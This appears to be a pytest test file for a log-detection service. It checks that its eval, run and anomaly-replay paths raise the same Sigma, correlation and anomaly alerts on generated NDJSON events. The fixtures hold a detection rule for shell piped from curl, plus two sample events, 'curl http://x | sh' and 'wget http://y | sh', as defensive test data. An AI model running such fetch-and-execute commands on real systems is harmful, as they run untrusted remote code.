"""Done-when of issue 13: ``pipesentry eval`` and ``pipesentry run`` raise the same alerts, with the
same ids (Sigma, correlation and anomaly), on the same NDJSON stream: both run it through the one
pipeline core with the same settings. ``run`` reads the file through a ``files:`` input end to end
(the service, its supervisor, the follower, the core); ``eval`` reads it with ``--config``;
``pipesentry anomaly replay`` (the anomaly backtest) runs the same core with only the checks and
must raise the anomaly alerts of both."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detectors.alert import Alert
from service import metrics
from service.app import Service
from service.cli import main
from service.config import load_settings
from service.pipeline.replay import Collector, LineFileSource
from tests.support.rules import failed_logins_in_a_minute

RULES = failed_logins_in_a_minute(generate=True) + """---
title: Shell piped from curl
id: 7a1c0000-0000-4000-8000-000000000003
status: test
logsource: {product: app}
detection:
  sel: {cmd|contains: '| sh'}
  condition: sel
level: high
"""

CHECKS = """
- id: burst
  type: threshold
  title: Many requests of one host
  level: medium
  by: [host]
  selection: {kind: request}
  count: 4
  window: 1m
- id: slow
  type: metric
  title: Slow responses of one host (per-minute mean)
  by: [host]
  field: ms
  aggregate: mean
  window: 1m
  seasonality: []
  learning: 0s
  learn_for: 0s
  min_samples: 8
"""

T0 = 1_893_456_000  # 2030-01-01: later than any arrival time, so an event without a time is late, not a jump


def iso(offset: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(T0 + offset)) + f".{int(offset * 1000) % 1000:03d}Z"


SLOW_FROM, SLOW_TO = 1203, 1330
"""Offsets of the slow responses: the episode's first window (and so its alert) starts at the first."""


def corpus(time_of: Any) -> list[dict[str, Any]]:
    """Failed logins of two users (one correlation alert), a request burst (one anomaly alert),
    two curl|sh events, spread over two minutes; response times of host ``api`` with a slow
    episode of two minutes (a window alert about its first event, and its resolution) over half
    an hour; ``time_of(offset)`` gives each event's time fields."""
    timed: list[tuple[float, dict[str, Any]]] = []
    for n in range(12):
        offset = n * 7.5
        timed.append((offset, {"user": "bob" if n % 3 else "eve", "outcome": "failure", "host": "web-1",
                               "kind": "login"}))
        if n % 2 == 0:
            timed.append((offset + 1, {"host": "web-2", "kind": "request", "path": f"/p{n}"}))
    timed.append((20, {"cmd": "curl http://x | sh", "host": "ci"}))
    timed.append((200, {"cmd": "wget http://y | sh", "host": "ci", "kind": "request"}))
    timed.append((400, {"host": "web-9", "kind": "login"}))
    for n in range(3, 1800, 20):
        at = n + (SLOW_FROM - 3) % 20
        timed.append((at, {"host": "api", "ms": 900 + n % 7 if SLOW_FROM <= at <= SLOW_TO else 100 + n % 7}))
    timed.append((1900, {"host": "web-9", "kind": "login"}))  # closes every window
    timed.sort(key=lambda pair: pair[0])
    return [{**time_of(offset), **event} for offset, event in timed]


def missing_times(offset: float) -> dict[str, Any]:
    return {"@timestamp": iso(offset)} if int(offset) % 3 else {}


CASES = {
    "default-field": lambda offset: {"@timestamp": iso(offset)},
    "missing-times": missing_times,
    "ts-field": lambda offset: {"ts": iso(offset)},
    "list-valued-time": lambda offset: {"event": {"created": [iso(offset), iso(offset + 0.5)]}},
}


class RunRouter(Collector):
    """The service's alert router, reduced to keeping what it is given."""

    async def start(self) -> None:
        return None

    async def stop(self) -> None:
        return None


LAST_EVAL: list[dict[str, Any]] = []
"""The records of the latest ``eval_ids`` / ``replay_ids`` call (for their anomaly alerts' event times)."""


async def eval_ids(config: Path, events: Path, capsys: pytest.CaptureFixture[str]) -> list[tuple[str, str]]:
    capsys.readouterr()
    assert await asyncio.to_thread(main, ["eval", "--config", str(config), str(events)]) == 0
    out = capsys.readouterr().out
    LAST_EVAL[:] = list(map(orjson.loads, out.splitlines()))
    return sorted((r["rule_kind"], r["alert_id"]) for r in LAST_EVAL)


async def replay_ids(checks: Path, events: Path, capsys: pytest.CaptureFixture[str]) -> list[tuple[str, str]]:
    capsys.readouterr()
    argv = ["anomaly", "replay", "--checks", str(checks), "--logsource", "product=app", str(events)]
    assert await asyncio.to_thread(main, argv) == 0
    out = capsys.readouterr().out
    LAST_EVAL[:] = list(map(orjson.loads, out.splitlines()))
    return sorted(("anomaly", r["alert_id"]) for r in LAST_EVAL)


def anomaly_times(records: list[dict[str, Any]]) -> list[tuple[str, str]]:
    """(alert id, event time) of the anomaly alerts of ``eval`` (or ``anomaly replay``) records."""
    return sorted((r["alert_id"], (r.get("details") or r)["event_time"]) for r in records
                  if r.get("rule_kind", "anomaly") == "anomaly")


def check_first_event(alert: Alert, events: Path) -> None:
    """A window alert of ``run`` is about its window's first event: the alert's origin is that
    event's line (the ``files:`` follower's origin) and its time is that event's time."""
    from detectors.event import event_time

    assert alert.origin.input == "file" and alert.origin.key is not None
    at = int(alert.origin.key.rsplit(":", 2)[1])
    with events.open("rb") as stream:
        stream.seek(at)
        event = orjson.loads(stream.readline())
    assert event["host"] == "api" and event["ms"] >= 900  # the first slow response ...
    assert event_time(event, ("@timestamp", "ts", "event.created")) == alert.timestamp
    assert (alert.details or {})["event_time"] == iso(alert.timestamp - T0)  # ... and its time
    assert alert.timestamp < T0 + SLOW_FROM + 60  # the first window of the episode


def anomaly_only(ids: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(kind, alert_id) for kind, alert_id in ids if kind == "anomaly"]


async def run_ids(config: Path, lines: int, router: RunRouter | None = None) -> list[tuple[str, str]]:
    router = router or RunRouter()
    service = Service(load_settings(config), router=router)
    events = metrics.EVENTS.labels("file")
    before = events._value.get()
    task = asyncio.create_task(service.run(install_signals=False))
    deadline = time.monotonic() + 30
    while events._value.get() - before < lines:  # every line through the pipeline
        assert not task.done(), task.exception()
        assert time.monotonic() < deadline, "run did not read the whole file"
        await asyncio.sleep(0.01)
    service.request_stop()
    await task
    return sorted((alert.rule.kind, alert.id) for alert in router.alerts)


def write_setup(tmp_path: Path, stream: list[dict[str, Any]], *, via_stdin: bool = False,
                checks: bool = True) -> tuple[Path, Path]:
    """Rules, checks, the NDJSON file and the service's config reading it (``files:`` or stdin)."""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "rules.yml").write_text(RULES)
    (tmp_path / "checks.yml").write_text(CHECKS)
    events = tmp_path / "events.ndjson"
    events.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in stream))
    config = tmp_path / "pipesentry.yml"
    file_input = {"path": str(events), "start_at": "beginning", "poll_interval_s": 0.02,
                  "logsource": {"product": "app"}}
    config.write_text(yaml.safe_dump({
        "data_dir": str(tmp_path / "data"),
        "rules": {"paths": [str(tmp_path / "rules")], "watch": False},
        "anomaly": {"checks": [str(tmp_path / "checks.yml")] if checks else []},
        "files": [] if via_stdin else [file_input],
        "stdin": {"enabled": True, "logsource": {"product": "app"}} if via_stdin else {"enabled": False},
        "api": {"enabled": False},
        "state": {"heartbeat_interval_s": 86_400},
    }))
    return config, events


@pytest.mark.parametrize("time_of", list(CASES.values()), ids=list(CASES))
async def test_eval_and_run_raise_the_same_alert_ids(tmp_path: Path, time_of: Any,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    stream = corpus(time_of)
    config, events = write_setup(tmp_path, stream)
    expected = await eval_ids(config, events, capsys)
    expected_times = anomaly_times(LAST_EVAL)
    replayed = await replay_ids(tmp_path / "checks.yml", events, capsys)
    assert anomaly_times(LAST_EVAL) == expected_times
    router = RunRouter()
    got = await run_ids(config, len(stream), router)
    assert {kind for kind, _ in expected} == {"sigma", "correlation", "anomaly"}
    assert got == expected
    assert replayed == anomaly_only(expected)
    ran = [alert for alert in router.alerts if alert.rule.kind == "anomaly"]
    assert sorted((alert.id, (alert.details or {})["event_time"]) for alert in ran) == expected_times
    slow = [alert for alert in ran if alert.rule.id == "slow"]
    assert sorted((alert.details or {}).get("state", "open") for alert in slow) == ["open", "resolved"]
    check_first_event(next(alert for alert in slow if (alert.details or {}).get("state") is None), events)


async def test_eval_and_run_agree_with_the_native_screen_clearing_events(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without anomaly checks (they watch every event) the screen clears what no rule can match, in
    ``eval`` as in ``run``: cleared runs become ticks that move correlation time on in both."""
    from detectors.sigma.screen import AVAILABLE

    if not AVAILABLE:
        pytest.skip("native screen not built")
    stream = corpus(CASES["default-field"])
    config, events = write_setup(tmp_path, stream, checks=False)
    screened = metrics.EVENTS_SCREENED.labels("file")
    before = screened._value.get()
    expected = await eval_ids(config, events, capsys)
    assert screened._value.get() - before > 0  # eval went through the screen
    got = await run_ids(config, len(stream))
    assert {kind for kind, _ in expected} == {"sigma", "correlation"}
    assert got == expected


async def test_eval_of_stdin_and_run_reading_stdin_raise_the_same_alert_ids(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    stream = corpus(CASES["default-field"])
    config, events = write_setup(tmp_path, stream, via_stdin=True)
    with events.open("rb") as piped:
        monkeypatch.setattr("sys.stdin", type("Stdin", (), {"buffer": piped})())
        expected = await eval_ids(config, Path("-"), capsys)
    with events.open("rb") as piped:
        router = RunRouter()
        service = Service(load_settings(config), router=router, stdin=piped)
        before = metrics.EVENTS.labels("stdin")._value.get()
        task = asyncio.create_task(service.run(install_signals=False))
        deadline = time.monotonic() + 30
        while metrics.EVENTS.labels("stdin")._value.get() - before < len(stream):
            assert not task.done(), task.exception()
            assert time.monotonic() < deadline, "run did not read all of stdin"
            await asyncio.sleep(0.01)
        service.request_stop()
        await task
    assert {kind for kind, _ in expected} == {"sigma", "correlation", "anomaly"}
    assert sorted((alert.rule.kind, alert.id) for alert in router.alerts) == expected


line_bytes = st.binary(max_size=40).map(lambda b: b.replace(b"\n", b" "))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=st.lists(st.tuples(line_bytes, st.sampled_from([b"\n", b"\r\n"])), min_size=1, max_size=30))
def test_eval_reads_a_file_as_the_follower_does(tmp_path_factory: pytest.TempPathFactory,
                                                lines: list[tuple[bytes, bytes]]) -> None:
    """Fuzz: whatever the bytes (blank lines, CR LF, stray CRs, invalid UTF-8), ``eval``'s file
    source hands over the lines the ``files:`` follower does, with the same origins: the ids agree."""
    from service.config import StdinSettings
    from service.sources.base import InputSpec
    from service.sources.filetail import FileFollower

    path = tmp_path_factory.mktemp("parity") / "events.ndjson"
    path.write_bytes(b"".join(text + end for text, end in lines))
    spec = InputSpec.from_settings("file", StdinSettings(), ["@timestamp"])

    async def follow() -> list[tuple[bytes, str]]:
        stop = asyncio.Event()
        got: list[tuple[bytes, str]] = []
        wanted = sum(1 for text, end in lines if (text + end).rstrip(b"\n").rstrip(b"\r").strip())
        if not wanted:
            return got
        async for batch in FileFollower(path, spec, start_at="beginning", poll_interval_s=0.01).batches(stop):
            got.extend((m.value or b"", m.origin.token()) for m in batch.messages)
            if len(got) >= wanted:
                stop.set()
        return got

    async def replay() -> list[tuple[bytes, str]]:
        got: list[tuple[bytes, str]] = []
        with path.open("rb") as stream:
            source = LineFileSource(stream, spec, lambda alerts, rejects: None, path=str(path), batch_lines=7)
            async for batch in source.batches(asyncio.Event()):
                got.extend((m.value or b"", m.origin.token()) for m in batch.messages)
        return got

    assert asyncio.run(replay()) == asyncio.run(follow())
